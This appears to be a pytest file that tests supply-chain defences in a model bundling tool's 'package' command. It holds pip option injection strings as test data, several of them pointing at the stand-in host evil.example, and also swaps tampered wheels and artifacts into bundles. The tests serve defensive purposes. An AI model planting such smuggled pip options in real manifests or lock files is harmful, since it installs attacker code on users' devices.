"""Attacks on `exporter package` bundles: manifest strings that would become pip options in
requirements.lock (code from an attacker's index on the device), and files swapped inside
an unpacked bundle (an artifact, a wheel) that its scripts would run or install."""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from packaging.version import Version

from exporter.errors import UserInputError
from exporter.ship.bundle import package
from exporter.ship.lock import Lock
from runtime.format.archive import ArtifactReader
from exporter.ship.archive_writer import write_artifact

pytest.importorskip("onnxruntime")
EVIL = "http://evil.example/simple"


def _rewrite(src: Path, dst: Path, change) -> Path:
    """``src`` with its manifest edited and every hash made consistent again: what anyone
    who can write an unsigned artifact produces."""
    with ArtifactReader.open(src) as reader:
        manifest = json.loads(json.dumps(reader.manifest))
        files = {name: reader.read_bytes(name) for name in reader.names()}
    change(manifest)
    write_artifact(dst, manifest, files)
    return dst


def _meta(key, value):
    return lambda m: m["partitions"][0]["meta"].__setitem__(key, value)


def _created_by(key, value):
    return lambda m: m.setdefault("created_by", {}).__setitem__(key, value)


INJECTIONS = {
    "newlines_add_an_index_and_a_package": (
        _meta("onnxruntime", f"1.32.0\n--extra-index-url {EVIL}\nevilpkg==6.6.6"),
        "partitions[0].meta.onnxruntime"),
    "an_index_option_after_the_version": (
        _created_by("numpy", f"2.4.6 --index-url {EVIL}"), "created_by.numpy"),
    "an_environment_marker": (_created_by("numpy", "2.4.6;python_version>'0'"),
                              "created_by.numpy"),
    "a_url_requirement": (_created_by("numpy", f"@ {EVIL}/numpy.whl"), "created_by.numpy"),
    "a_hash_option_of_its_own": (_meta("onnxruntime", "1.32.0 --hash=sha256:" + "0" * 64),
                                 "partitions[0].meta.onnxruntime"),
    "a_local_label_no_index_serves": (_created_by("numpy", "2.4.6+evil"), "created_by.numpy"),
    "a_carriage_return": (_meta("onnxruntime", "1.32.0\r--pre"),
                          "partitions[0].meta.onnxruntime"),
    "not_a_string": (_meta("onnxruntime", ["1.32.0"]), "partitions[0].meta.onnxruntime"),
}


@pytest.mark.parametrize("attack", sorted(INJECTIONS))
def test_manifest_versions_carrying_pip_options_are_refused_naming_the_field(
        onnx_mlp, tmp_path, attack):
    change, field = INJECTIONS[attack]
    bad = _rewrite(onnx_mlp, tmp_path / "bad.artifact", change)
    out = tmp_path / "out" / "bundle.tar.gz"
    out.parent.mkdir()
    with pytest.raises(UserInputError) as refused:
        package([bad], out)
    assert field in str(refused.value) and "bad.artifact" in str(refused.value)
    assert list(out.parent.iterdir()) == [], "nothing is written"


def test_cli_refuses_an_injected_lock_line_with_exit_2_and_one_json_object(onnx_mlp, tmp_path,
                                                                           cli_here):
    cli = cli_here  # what package says and writes; its process: test_executorch_native's
    change, field = INJECTIONS["newlines_add_an_index_and_a_package"]
    bad = _rewrite(onnx_mlp, tmp_path / "bad.artifact", change)
    out = tmp_path / "bundle.tar.gz"
    plain = cli("package", str(bad), "--out", str(out))
    assert plain.returncode == 2 and "error:" in plain.stderr and field in plain.stderr
    assert "Traceback" not in plain.stderr and "evilpkg" not in plain.stdout
    as_json = cli("package", str(bad), "--out", str(out), "--json")
    assert as_json.returncode == 2 and "error" in json.loads(as_json.stdout)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.artifact"]


def test_a_cpu_torch_lock_names_the_index_that_serves_it():
    lines = Lock(pins={"torch": Version("2.13.0+cpu"), "numpy": Version("2.4.6")}).lines()
    assert "--extra-index-url https://download.pytorch.org/whl/cpu" in lines
    assert "torch==2.13.0+cpu" in lines and "numpy==2.4.6" in lines


@pytest.fixture(scope="module")
def onnx_bundle(onnx_mlp, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("trust-bundle") / "trusted.tar.gz"
    package([onnx_mlp], out)
    return out


def _unpacked(bundle: Path, where: Path) -> Path:
    with tarfile.open(bundle) as tar:
        tar.extractall(where, filter="data")
    return where / bundle.name.removesuffix(".tar.gz")


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_lock_pins_the_hash_of_every_bundled_wheel_and_pip_reads_it(onnx_bundle, ran,
                                                                     tmp_path):
    folder = _unpacked(onnx_bundle, tmp_path)
    lines = [line for line in (folder / "requirements.lock").read_text().splitlines()
             if not line.startswith("#")]
    pinned = re.compile(r"[a-z0-9][a-z0-9.-]*==[0-9][0-9a-z.+!]* --hash=sha256:([0-9a-f]{64})")
    assert all(pinned.fullmatch(line) for line in lines), lines
    wheels = {_sha256(p) for p in (folder / "wheels").iterdir()}
    assert {pinned.fullmatch(line)[1] for line in lines} == wheels  # exactly those files
    # pip's own parser, offline, against the bundle's wheels, hashes required
    dry = [sys.executable, "-m", "pip", "--isolated", "install", "--dry-run",
           "--ignore-installed", "--no-index", "--find-links", str(folder / "wheels"),
           "--only-binary=:all:", "--require-hashes", "-q", "-r", str(folder / "requirements.lock")]
    done = ran(subprocess.run, dry, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    wheel = next((folder / "wheels").glob("numpy-*.whl"))
    wheel.write_bytes(wheel.read_bytes() + b"x")  # a wheel swapped in: pip refuses it
    done = ran(subprocess.run, dry, capture_output=True, text=True)
    assert done.returncode != 0 and "HASHES" in done.stderr


def _fake_python(tmp_path: Path) -> tuple[dict, Path]:
    """An environment whose PYTHON only records that it ran: a script got past its checks."""
    marker = tmp_path / "python-ran"
    fake = tmp_path / "fake-python"
    fake.write_text(f"#!/bin/sh\necho \"$@\" >> {marker}\necho 3.11\n")
    fake.chmod(0o755)
    return {**os.environ, "PYTHON": str(fake)}, marker


def _swap_artifact(folder: Path, other: Path, *, sums_too: bool) -> None:
    target = folder / "artifacts" / "mlp-onnx.artifact"
    target.write_bytes(other.read_bytes())
    if sums_too:  # SHA256SUMS rewritten to match: only run.sh's own pin is left
        sums = folder / "SHA256SUMS"
        sums.write_text(re.sub(r"[0-9a-f]{64}(?=  artifacts/mlp-onnx\.artifact)",
                               _sha256(target), sums.read_text()))


@pytest.mark.parametrize("how", ["swapped", "swapped_with_its_sha256sums_line",
                                 "swapped_and_given_as_a_path", "added_beside_the_bundled"])
def test_an_artifact_swapped_into_an_unpacked_bundle_is_refused_before_python_runs(
        onnx_bundle, onnx_mlp, ran, tmp_path, how):
    folder = _unpacked(onnx_bundle, tmp_path)
    env, marker = _fake_python(tmp_path)
    run = [str(folder / "run.sh"), "mlp-onnx.artifact", "--inputs", "in.npz"]
    assert ran(subprocess.run, run, env=env, capture_output=True).returncode == 0
    assert marker.exists(), "an intact bundle runs"
    marker.unlink()
    # another valid artifact, its inner hashes consistent: only the bundle can tell
    other = _rewrite(onnx_mlp, tmp_path / "other.artifact",
                     lambda m: m["source"].__setitem__("spec", "zoo:other"))
    if how == "added_beside_the_bundled":
        (folder / "artifacts" / "extra.artifact").write_bytes(other.read_bytes())
        sums = folder / "SHA256SUMS"
        sums.write_text(sums.read_text() + f"{_sha256(other)}  artifacts/extra.artifact\n")
        run[1] = "extra.artifact"
    else:
        _swap_artifact(folder, other, sums_too=how != "swapped")
        if how == "swapped_and_given_as_a_path":
            run[1] = str(folder / "artifacts" / "mlp-onnx.artifact")
    done = ran(subprocess.run, run, env=env, capture_output=True, text=True)
    assert done.returncode == 2 and "refused" in done.stderr, done.stderr
    assert not marker.exists(), "python never started"


def test_install_sh_refuses_a_swapped_wheel_before_python_runs(onnx_bundle, ran, tmp_path):
    folder = _unpacked(onnx_bundle, tmp_path)
    env, marker = _fake_python(tmp_path)
    wheel = next((folder / "wheels").glob("numpy-*.whl"))
    wheel.write_bytes(wheel.read_bytes()[:-1] + b"x")
    done = ran(subprocess.run, [str(folder / "install.sh")], env=env, capture_output=True,
               text=True)
    assert done.returncode == 2 and "do not match SHA256SUMS" in done.stderr, done.stderr
    assert wheel.name in done.stderr and not marker.exists()
    assert not (folder / ".venv").exists()
